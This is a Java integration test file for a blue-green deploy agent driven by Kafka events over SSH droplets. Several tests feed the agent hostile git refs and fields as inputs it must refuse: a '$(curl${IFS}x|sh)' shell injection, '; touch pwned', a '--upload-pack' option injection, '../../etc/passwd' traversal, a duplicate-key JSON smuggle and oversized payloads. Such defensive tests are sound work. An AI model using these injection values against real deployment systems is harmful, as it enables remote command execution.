package dev.bluegreen.agent;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.KeyPairGenerator;
import java.security.spec.ECGenParameterSpec;
import java.time.Duration;
import java.util.ArrayList;
import java.util.HexFormat;
import java.util.List;
import java.util.UUID;
import java.util.concurrent.ThreadLocalRandom;
import java.util.function.UnaryOperator;
import java.util.stream.Stream;

import org.apache.sshd.common.config.keys.PublicKeyEntry;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.springframework.context.ConfigurableApplicationContext;

import dev.bluegreen.events.CancelRequested;
import dev.bluegreen.events.Colour;
import dev.bluegreen.events.DeployRequested;
import dev.bluegreen.events.DeploymentLog;
import dev.bluegreen.events.DeploymentStarted;
import dev.bluegreen.events.Envelope;
import dev.bluegreen.events.EnvelopeCodec;
import dev.bluegreen.events.EnvironmentHealthy;
import dev.bluegreen.events.EnvironmentProvisioned;
import dev.bluegreen.events.ProvisioningFailed;
import dev.bluegreen.events.RequestRefused;
import dev.bluegreen.events.Topics;
import dev.bluegreen.events.TrafficSwitched;
import dev.bluegreen.sandbox.Sandbox;
import dev.bluegreen.sandbox.SandboxDroplet;
import dev.bluegreen.sandbox.SandboxSettings;
import dev.bluegreen.testing.EventLog;
import dev.bluegreen.testing.KafkaFixture;

/**
 * The deploy-agent against a real Kafka broker and real SSH droplets: each test has a sandbox of its own, with an app
 * of its own name, blue serving v1 and green empty, and an agent started on it.
 */
class DeployAgentTest {

    private static EventLog events;

    private static EventLog deadLetters;

    @TempDir
    Path folder;

    private Sandbox sandbox;

    private String app;

    private final List<ConfigurableApplicationContext> agents = new ArrayList<>();

    @BeforeAll
    static void openEventLog() {
        events = EventLog.open(KafkaFixture.bootstrapServers(), Topics.LIFECYCLE, Topics.DEPLOYMENT_LOGS);
        deadLetters = EventLog.open(KafkaFixture.bootstrapServers(), Topics.LIFECYCLE + ".DLT");
    }

    @AfterAll
    static void closeEventLog() {
        events.close();
        deadLetters.close();
    }

    @BeforeEach
    void startSandbox() {
        app = "app-" + HexFormat.of().toHexDigits(ThreadLocalRandom.current().nextInt());
        sandbox = Sandbox.start(SandboxSettings.defaults().withAppName(app).withWorkFolder(folder.resolve("sandbox")));
    }

    @AfterEach
    void stopEverything() {
        agents.forEach(ConfigurableApplicationContext::close);
        sandbox.close();
    }

    @Test
    void provisionsTheIdleColourAndReportsTheCommit() {
        startAgent();

        String deploymentId = requestDeploy("v2");

        Envelope envelope = events.awaitEvent(EnvironmentProvisioned.class, deploymentId);
        EnvironmentProvisioned provisioned = envelope.dataAs(EnvironmentProvisioned.class);
        assertThat(envelope.source()).isEqualTo("deploy-agent");
        assertThat(envelope.subject()).isEqualTo(app);
        assertThat(provisioned.colour()).isEqualTo(Colour.GREEN);
        assertThat(provisioned.ref()).isEqualTo("v2");
        assertThat(provisioned.commit()).isEqualTo(sandbox.repository().commitOf("v2"));
        assertThat(provisioned.dropletIds()).containsExactlyElementsOf(sandbox.dropletIds(Colour.GREEN));
        assertThat(sandbox.versionsServed(Colour.GREEN)).containsOnly("v2");
        assertThat(sandbox.versionsServed(Colour.BLUE)).containsOnly("v1");
        assertThat(lifecycleEventsOfTheAgent(deploymentId)).as("DeploymentStarted comes before the outcome")
                .containsExactly("DeploymentStarted", "EnvironmentProvisioned");
        List<DeploymentLog> logs = events.events().stream()
                .filter(event -> event.deploymentId().equals(deploymentId) && event.data() instanceof DeploymentLog)
                .map(event -> event.dataAs(DeploymentLog.class)).toList();
        assertThat(logs).extracting(DeploymentLog::step).as("every step of every droplet streamed its output")
                .contains("fetch", "checkout", "install", "restart", "self-test");
        assertThat(logs).extracting(DeploymentLog::dropletId).containsAll(sandbox.dropletIds(Colour.GREEN));
        assertThat(logs).filteredOn(log -> log.step().equals("self-test")).flatMap(DeploymentLog::lines)
                .anyMatch(line -> line.contains("answered 200"));
    }

    @Test
    void aDropletThatRefusesTheDeployKeyFailsTheDeploymentSayingWhoCouldNotLogIn() {
        startAgent("--bluegreen.ssh.user=intruder");

        String deploymentId = requestDeploy("v2");

        ProvisioningFailed failed = events.awaitEvent(ProvisioningFailed.class, deploymentId)
                .dataAs(ProvisioningFailed.class);
        assertThat(failed.reason()).contains("could not log in to droplet " + failed.dropletId())
                .contains("as intruder: the droplet did not accept the deploy key");
        assertThat(failed.step()).isNull();
        assertThat(sandbox.versionsServed(Colour.BLUE)).containsOnly("v1");
    }

    @Test
    void threeDropletsProvisionInParallelAndTheOneThatFailsIsNamed() throws IOException {
        sandbox.close();
        sandbox = Sandbox.start(SandboxSettings.defaults().withAppName(app).withDropletsPerColour(3)
                .withWorkFolder(folder.resolve("sandbox-of-three")));
        SandboxDroplet failing = sandbox.droplets(Colour.GREEN).get(1);
        Files.writeString(failing.server().folder().resolve("fail-here"), "");
        startAgentWith(appsFile -> appsFile.replaceFirst("(?m)^(\\s+)steps:\\n", "$1steps:\n"
                + "$1  - name: \"check\"\n"
                + "$1    timeout: 10s\n"
                + "$1    run: \"if [ -f fail-here ]; then echo 'marked to fail' >&2; exit 7; fi\"\n"));

        String deploymentId = requestDeploy("v2");

        ProvisioningFailed failed = events.awaitEvent(ProvisioningFailed.class, deploymentId)
                .dataAs(ProvisioningFailed.class);
        assertThat(failed.dropletId()).isEqualTo(failing.id());
        assertThat(failed.step()).isEqualTo("check");
        assertThat(failed.exitCode()).isEqualTo(7);
        assertThat(failed.reason()).isEqualTo("Step 'check' failed on droplet " + failing.id() + " with exit code 7.");
        assertThat(failed.outputTail()).isEqualTo("marked to fail");
        DeploymentStarted started = events.awaitEvent(DeploymentStarted.class, deploymentId)
                .dataAs(DeploymentStarted.class);
        assertThat(started.dropletIds()).hasSize(3).containsExactlyElementsOf(sandbox.dropletIds(Colour.GREEN));
        List<Long> passedCheck = events.events().stream()
                .filter(event -> event.deploymentId().equals(deploymentId) && event.data() instanceof DeploymentLog)
                .map(event -> event.dataAs(DeploymentLog.class)).filter(log -> log.step().equals("fetch"))
                .map(DeploymentLog::dropletId).distinct().toList();
        assertThat(passedCheck).as("the two healthy droplets went on with the steps")
                .containsExactlyInAnyOrderElementsOf(sandbox.dropletIds(Colour.GREEN).stream()
                        .filter(id -> id != failing.id()).toList());
        assertThat(sandbox.versionsServed(Colour.BLUE)).hasSize(3).containsOnly("v1");
    }

    @Test
    void aStepThatExitsNonZeroFailsTheDeploymentNamingTheStep() {
        startAgent();

        String deploymentId = requestDeploy("no-such-ref");

        ProvisioningFailed failed = events.awaitEvent(ProvisioningFailed.class, deploymentId)
                .dataAs(ProvisioningFailed.class);
        assertThat(failed.colour()).isEqualTo(Colour.GREEN);
        assertThat(failed.step()).isEqualTo("fetch");
        assertThat(failed.exitCode()).isNotNull().isNotZero();
        assertThat(failed.dropletId()).isIn(sandbox.dropletIds(Colour.GREEN));
        assertThat(failed.reason()).contains("Step 'fetch' failed on droplet " + failed.dropletId())
                .contains("exit code " + failed.exitCode());
        assertThat(failed.outputTail()).contains("no-such-ref");
        assertThat(sandbox.versionsServed(Colour.BLUE)).containsOnly("v1");
    }

    @Test
    void anUnknownHostKeyFailsTheDeploymentAndSaysItMayBeAnAttack() throws Exception {
        startAgent("--bluegreen.ssh.known-hosts=" + knownHostsWithOtherKeys());

        String deploymentId = requestDeploy("v2");

        ProvisioningFailed failed = events.awaitEvent(ProvisioningFailed.class, deploymentId)
                .dataAs(ProvisioningFailed.class);
        SandboxDroplet droplet = sandbox.droplet(failed.dropletId()).orElseThrow();
        assertThat(droplet.colour()).isEqualTo(Colour.GREEN);
        assertThat(failed.reason()).contains("host key of droplet " + droplet.id() + " (" + droplet.sshAddress() + ")")
                .contains("was not recognised").contains("may be an attack");
        assertThat(failed.step()).isNull();
        assertThat(failed.exitCode()).isNull();
        assertThat(sandbox.droplets(Colour.GREEN)).as("nothing ran on a green droplet")
                .allSatisfy(green -> assertThat(green.server().folder().resolve(".git")).doesNotExist());
        assertThat(sandbox.versionsServed(Colour.BLUE)).containsOnly("v1");
    }

    @Test
    void aRefThatAShellWouldRunIsRefusedByTheAgentAndNothingRunsOnAnyDroplet() throws IOException {
        startAgent();

        for (String hostile : List.of("$(curl${IFS}x|sh)", "v2; touch pwned", "../../etc/passwd")) {
            String deploymentId = requestDeploy(hostile);

            ProvisioningFailed failed = events.awaitEvent(ProvisioningFailed.class, deploymentId)
                    .dataAs(ProvisioningFailed.class);
            assertThat(failed.reason()).as(hostile).startsWith("The deploy-agent refused the request: the ref ")
                    .endsWith(". No step ran on any droplet.").doesNotContain(hostile);
            assertThat(failed.step()).isNull();
            assertThat(lifecycleEventsOfTheAgent(deploymentId)).containsExactly("ProvisioningFailed");
        }
        assertThat(sandbox.droplets(Colour.GREEN)).as("nothing ran on a green droplet")
                .allSatisfy(green -> assertThat(green.server().folder().resolve(".git")).doesNotExist());
        try (Stream<Path> files = Files.walk(sandbox.workFolder())) {
            assertThat(files.map(Path::getFileName).map(Path::toString)).doesNotContain("pwned");
        }
        assertThat(sandbox.versionsServed(Colour.BLUE)).containsOnly("v1");
    }

    /**
     * What Kafka may hand the agent that is no request at all, or one too large to be: each goes to the lifecycle
     * topic's dead-letter topic as it came, the agent publishes nothing for it, and it serves the next request.
     */
    @Test
    void recordsThatDoNotReadGoToTheDeadLetterTopicAndTheAgentServesTheNextRequest() {
        startAgent();
        String json = new EnvelopeCodec().writeString(Envelope.of("test", UUID.randomUUID().toString(),
                new DeployRequested(app, "v2", null, "mallory")));
        List<String> garbage = List.of(
                json.substring(0, json.length() / 2), // truncated
                json.replace("\"data\":{", "\"data\":{\"deep\":" + "[".repeat(100_000) + "]".repeat(100_000)
                        + ","), // nested past any parser's limit
                json.replace("\"ref\":\"v2\"", "\"ref\":{\"$ne\":null}"), // an object where a string goes
                // a key twice: a reader that keeps the first "ref" would see v2, one that keeps the last a command
                json.replace("\"ref\":\"v2\"", "\"ref\":\"v2\",\"ref\":\"$(curl${IFS}x|sh)\""),
                json.replaceFirst("\"time\":(\"[^\"]*\"|[0-9.]+)", "\"time\":\"yesterday\""), // not a time
                "\u0000\u00ff\ufffe not even text");
        assertThat(garbage).as("each is changed from the envelope").doesNotContain(json);
        // larger than any event: folded, it would grow the app's state past what Kafka stores, and stop the stream
        Envelope oversize = Envelope.of("test", UUID.randomUUID().toString(), new DeployRequested(app,
                "v".repeat(600_000), null, "mallory"));

        garbage.forEach(value -> events.publishRaw(Topics.LIFECYCLE, app, value.getBytes(StandardCharsets.UTF_8)));
        events.publish(oversize);
        String next = requestDeploy("v2");

        events.awaitEvent(EnvironmentProvisioned.class, next);
        await().atMost(Duration.ofSeconds(30)).untilAsserted(() -> {
            assertThat(deadLetters.unreadable()).filteredOn(letter -> app.equals(letter.key()))
                    .extracting(EventLog.Unreadable::text).containsExactlyElementsOf(garbage);
            assertThat(deadLetters.events()).as("the oversize request, which reads as an envelope elsewhere")
                    .extracting(Envelope::id).contains(oversize.id());
        });
        assertThat(events.events()).as("the agent published nothing but the good request's events")
                .filteredOn(event -> event.source().equals("deploy-agent") && event.subject().equals(app))
                .extracting(Envelope::deploymentId).containsOnly(next);
        assertThat(events.events()).filteredOn(event -> event.deploymentId().equals(oversize.deploymentId()))
                .extracting(Envelope::source).containsOnly("test");
    }

    /**
     * What reads as a request but holds what no request should: refused with a reason, nothing runs, nothing of it is
     * quoted back, and the agent serves the next request.
     */
    @Test
    void requestsWithHostileValuesThatDoReadAreRefusedAndTheAgentServesTheNextRequest() {
        startAgent();
        String oversize = requestDeploy("v".repeat(10_000));
        ProvisioningFailed tooLong = events.awaitEvent(ProvisioningFailed.class, oversize)
                .dataAs(ProvisioningFailed.class);
        assertThat(tooLong.reason()).isEqualTo("The deploy-agent refused the request: the ref must not be longer "
                + "than 255 characters. No step ran on any droplet.");
        assertThat(tooLong.ref()).as("the event does not carry the oversize ref back").hasSizeLessThan(300);
        String climbing = UUID.randomUUID().toString();
        events.publish(Envelope.of("test", climbing, new DeployRequested("../../" + app, "v2", null, "mallory")));
        assertThat(events.awaitEvent(RequestRefused.class, climbing).dataAs(RequestRefused.class).reason())
                .startsWith("There is no app named");

        String next = requestDeploy("v2");

        events.awaitEvent(EnvironmentProvisioned.class, next);
        assertThat(List.of(oversize, climbing)).allSatisfy(refused -> assertThat(events.events())
                .filteredOn(event -> event.deploymentId().equals(refused))
                .noneMatch(event -> event.data() instanceof DeploymentStarted || event.data() instanceof DeploymentLog));
    }

    @Test
    void aRefThatGitWouldTakeForAnOptionIsRefusedAloudAndNoStepRuns() {
        startAgent();

        String deploymentId = requestDeploy("--upload-pack=touch pwned");

        Envelope envelope = events.awaitEvent(RequestRefused.class, deploymentId);
        RequestRefused refused = envelope.dataAs(RequestRefused.class);
        assertThat(envelope.source()).isEqualTo("deploy-agent");
        assertThat(refused.request()).isEqualTo("DeployRequested");
        assertThat(refused.reason()).contains("starts with a dash");
        assertThat(lifecycleEventsOfTheAgent(deploymentId)).containsExactly("RequestRefused");
        assertThat(sandbox.droplets(Colour.GREEN)).as("nothing ran on a green droplet")
                .allSatisfy(green -> assertThat(green.server().folder().resolve(".git")).doesNotExist());
    }

    @Test
    void aDeployRequestAcceptedByTheFoldProvisionsTheIdleColourItNames() {
        startAgent();
        String first = requestDeploy("v2");
        EnvironmentProvisioned toGreen = events.awaitEvent(EnvironmentProvisioned.class, first)
                .dataAs(EnvironmentProvisioned.class);
        assertThat(toGreen.colour()).isEqualTo(Colour.GREEN);

        // the health-monitor and the traffic-router take the first deployment live
        events.publish(Envelope.of("health-monitor", first, new EnvironmentHealthy(app, Colour.GREEN, "v2",
                toGreen.commit(), List.of(), 100)));
        events.publish(Envelope.of("traffic-router", first, new TrafficSwitched(app, Colour.BLUE, Colour.GREEN,
                sandbox.dropletIds(Colour.GREEN), 100)));
        String afterTheSwitch = requestDeploy("v1");

        EnvironmentProvisioned provisioned = events.awaitEvent(EnvironmentProvisioned.class, afterTheSwitch)
                .dataAs(EnvironmentProvisioned.class);
        assertThat(provisioned.colour()).as("the idle colour once green is live").isEqualTo(Colour.BLUE);
        assertThat(sandbox.versionsServed(Colour.BLUE)).containsOnly("v1");
        assertThat(sandbox.versionsServed(Colour.GREEN)).as("the live colour was not touched").containsOnly("v2");
    }

    @Test
    void aCancelDuringProvisioningKillsTheRunningStepAndNothingMoreIsPublishedForIt() throws IOException {
        startAgentWith(appsFile -> appsFile.replaceFirst("(?m)^(\\s+)steps:\\n", "$1steps:\n"
                + "$1  - name: \"pause\"\n"
                + "$1    timeout: 120s\n"
                + "$1    run: \"sleep 90 & echo \\$! > pause.pid; echo pausing; wait\"\n"));
        String deploymentId = requestDeploy("v2");
        List<Path> pidFiles = sandbox.droplets(Colour.GREEN).stream()
                .map(green -> green.server().folder().resolve("pause.pid")).toList();
        await().atMost(Duration.ofSeconds(60)).until(() -> {
            for (Path pidFile : pidFiles) {
                if (!Files.exists(pidFile) || !Files.readString(pidFile).endsWith("\n")) {
                    return false;
                }
            }
            return true;
        });
        List<Long> sleeps = new ArrayList<>();
        for (Path pidFile : pidFiles) {
            sleeps.add(Long.parseLong(Files.readString(pidFile).strip()));
        }

        events.publish(Envelope.of("test", deploymentId, new CancelRequested(app, "a test", "wrong ref")));

        await().atMost(Duration.ofSeconds(30)).untilAsserted(() -> assertThat(sleeps).as("the steps were killed")
                .noneMatch(pid -> ProcessHandle.of(pid).map(ProcessHandle::isAlive).orElse(false)));
        int publishedWhenKilled = eventsOf(deploymentId).size();
        await().during(Duration.ofSeconds(3)).atMost(Duration.ofSeconds(6))
                .until(() -> eventsOf(deploymentId).size() == publishedWhenKilled);
        assertThat(lifecycleEventsOfTheAgent(deploymentId)).containsExactly("DeploymentStarted");
        assertThat(sandbox.versionsServed(Colour.BLUE)).containsOnly("v1");
    }

    @Test
    void unreadableAndEmptyDeployRequestsAreSkippedAndTheNextOneIsServed() {
        startAgent();

        events.publishRaw(Topics.LIFECYCLE, app, "{ not an envelope".getBytes());
        events.publishRaw(Topics.LIFECYCLE, app, null);
        String deploymentId = requestDeploy("v2");

        assertThat(events.awaitEvent(EnvironmentProvisioned.class, deploymentId).dataAs(EnvironmentProvisioned.class)
                .colour()).isEqualTo(Colour.GREEN);
    }

    @Test
    void aRedeliveredDeployRequestIsDeployedOnce() {
        startAgent();
        String deploymentId = UUID.randomUUID().toString();
        Envelope request = Envelope.of("test", deploymentId, new DeployRequested(app, "v2", null, "a test"));
        events.publish(request);
        events.awaitEvent(EnvironmentProvisioned.class, deploymentId);

        events.publish(request);
        // the health check is cancelled, so that the app takes the next deployment
        events.publish(Envelope.of("test", deploymentId, new CancelRequested(app, "a test", null)));
        String next = requestDeploy("no-such-ref");

        events.awaitEvent(ProvisioningFailed.class, next); // the app's history is folded in order
        assertThat(lifecycleEventsOfTheAgent(deploymentId)).containsExactly("DeploymentStarted",
                "EnvironmentProvisioned");
    }

    @Test
    void aSecondDeployOfAnAppWhileOneRunsIsRefusedAloudSayingWhy() {
        startAgent();

        String first = requestDeploy("v2");
        String second = requestDeploy("v2");

        assertThat(events.awaitEvent(RequestRefused.class, second).dataAs(RequestRefused.class).reason())
                .isEqualTo("Deployment " + first + " of " + app + " is provisioning green. Deployment " + second
                        + " was not started; request it again when that has ended, or cancel it.");
        assertThat(events.awaitEvent(EnvironmentProvisioned.class, first).dataAs(EnvironmentProvisioned.class)
                .colour()).isEqualTo(Colour.GREEN);
        assertThat(lifecycleEventsOfTheAgent(second)).containsExactly("RequestRefused");
    }

    @Test
    void aDeployOfAnUnknownAppIsRefusedSayingSo() {
        startAgent();
        String deploymentId = UUID.randomUUID().toString();

        events.publish(Envelope.of("test", deploymentId, new DeployRequested(app + "-typo", "v2", null, "a test")));

        RequestRefused refused = events.awaitEvent(RequestRefused.class, deploymentId).dataAs(RequestRefused.class);
        assertThat(refused.reason()).isEqualTo("There is no app named " + app + "-typo in the apps file of the "
                + "deploy-agent.");
        assertThat(refused.app()).isEqualTo(app + "-typo");
    }

    /** The types of the lifecycle events the agent published in the deployment, in order. */
    private List<String> lifecycleEventsOfTheAgent(String deploymentId) {
        return eventsOf(deploymentId).stream()
                .filter(event -> event.source().equals("deploy-agent") && event.topic().equals(Topics.LIFECYCLE))
                .map(Envelope::type).toList();
    }

    private List<Envelope> eventsOf(String deploymentId) {
        return events.events().stream().filter(event -> event.deploymentId().equals(deploymentId)).toList();
    }

    /**
     * Starts an agent as the local stack does. {@code properties(...)} rank below deploy-agent.yml and the apps file,
     * so they name the variables deploy-agent.yml reads; a setting of the apps file is overridden by an argument.
     */
    private void startAgent(String... arguments) {
        startAgentWith(UnaryOperator.identity(), arguments);
    }

    /** Starts an agent on the sandbox's apps file, changed by {@code edit}. */
    private void startAgentWith(UnaryOperator<String> edit, String... arguments) {
        Path appsFile = sandbox.writeAppsFile(folder.resolve("bluegreen.yml"));
        try {
            Files.writeString(appsFile, edit.apply(Files.readString(appsFile)));
        }
        catch (IOException ex) {
            throw new java.io.UncheckedIOException(ex);
        }
        agents.add(DeployAgentApplication.application()
                .properties("bluegreen.config=" + appsFile, "KAFKA_BOOTSTRAP_SERVERS=" + KafkaFixture.bootstrapServers(),
                        "DEPLOY_AGENT_PORT=0", "spring.main.banner-mode=off")
                .run(arguments));
    }

    private String requestDeploy(String ref) {
        String deploymentId = UUID.randomUUID().toString();
        events.publish(Envelope.of("test", deploymentId, new DeployRequested(app, ref, null, "a test")));
        return deploymentId;
    }

    /** A known_hosts file that lists every droplet's address with a key that is not the droplet's. */
    private Path knownHostsWithOtherKeys() throws Exception {
        KeyPairGenerator generator = KeyPairGenerator.getInstance("EC");
        generator.initialize(new ECGenParameterSpec("secp256r1"));
        String otherKey = PublicKeyEntry.toString(generator.generateKeyPair().getPublic());
        List<String> lines = sandbox.droplets().stream()
                .map(droplet -> "[" + droplet.server().sshHost() + "]:" + droplet.server().sshPort() + " " + otherKey)
                .toList();
        return Files.write(folder.resolve("other_known_hosts"), lines);
    }
}
